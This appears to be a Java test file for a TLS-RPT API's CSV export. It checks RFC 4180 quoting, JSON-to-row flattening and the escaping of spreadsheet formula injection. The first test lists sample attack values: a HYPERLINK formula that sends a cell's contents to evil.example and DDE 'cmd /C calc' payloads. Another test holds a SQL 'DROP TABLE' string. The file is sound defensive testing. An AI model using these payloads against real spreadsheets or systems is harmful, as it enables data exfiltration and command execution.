package org.tlsrpt.api.csv;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.io.StringReader;
import java.util.List;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** CSV read back with a real parser (commons-csv, RFC 4180), and the spreadsheet formula attack. */
class CsvTableTest {

    static List<CSVRecord> parse(String text) throws IOException {
        return CSVFormat.RFC4180.parse(new StringReader(text)).getRecords();
    }

    @Test
    void anOrganisationNamedLikeAFormulaReachesTheSpreadsheetAsText() throws Exception {
        // A sender chooses its organization-name; opened in a spreadsheet, a cell starting with = + - @ tab or CR
        // would run as a formula (data exfiltration through HYPERLINK, DDE command execution in old Excel).
        List<String> attacks = List.of("=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
                "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1");
        String json = new ObjectMapper().writeValueAsString(attacks.stream()
                .map(name -> java.util.Map.of("organization", name, "reports", 1)).toList());

        String csv = JsonRows.table(new ObjectMapper().readTree(json), List.of("organization", "reports")).text();

        List<CSVRecord> records = parse(csv);
        assertThat(records.get(0).toList()).containsExactly("organization", "reports");
        for (int i = 0; i < attacks.size(); i++) {
            String cell = records.get(i + 1).get(0);
            assertThat(cell).isEqualTo("'" + attacks.get(i));
            assertThat(cell.charAt(0)).isEqualTo('\'');
        }
    }

    @Test
    void quotesCommasAndLineBreaksAreQuotedAsRfc4180Says() throws Exception {
        List<String> cells = List.of("O'Brien\"; DROP TABLE reports; --", "a,b", "line\r\nbreak", "plain", "");
        String csv = new CsvTable(List.of("a", "b", "c", "d", "e"), List.of(cells)).text();

        assertThat(csv).endsWith("\r\n").contains("\"O'Brien\"\"; DROP TABLE reports; --\"");
        assertThat(parse(csv).get(1).toList()).isEqualTo(cells);
    }

    @Test
    void listsJoinWithSpacesAndNullIsEmptyAndAnEmptyListKeepsItsHeader() throws Exception {
        ObjectMapper json = new ObjectMapper();
        String page = "{\"items\":[{\"key\":\"k\",\"policyDomains\":[\"a.example\",\"b.example\"],\"dkim\":null,"
                + "\"rate\":0.25,\"daily\":true}],\"nextCursor\":null}";
        List<CSVRecord> records = parse(JsonRows.table(json.readTree(page), List.of("key")).text());
        assertThat(records.get(0).toList()).containsExactly("key", "policyDomains", "dkim", "rate", "daily");
        assertThat(records.get(1).toList()).containsExactly("k", "a.example b.example", "", "0.25", "true");

        assertThat(parse(JsonRows.table(json.readTree("[]"), List.of("domain", "reporters")).text()))
                .singleElement().satisfies(header -> assertThat(header.toList()).containsExactly("domain",
                        "reporters"));
    }

    @Property
    void everyCellReadsBackAsWrittenOrWithOneLeadingQuoteWhenItLooksLikeAFormula(@ForAll String a,
            @ForAll String b) throws Exception {
        List<CSVRecord> records = parse(new CsvTable(List.of("a", "b"), List.of(List.of(a, b))).text());
        assertThat(records).hasSize(2);
        assertThat(records.get(1).get(0)).isEqualTo(expected(a));
        assertThat(records.get(1).get(1)).isEqualTo(expected(b));
    }

    static String expected(String cell) {
        return !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0 ? "'" + cell : cell;
    }
}
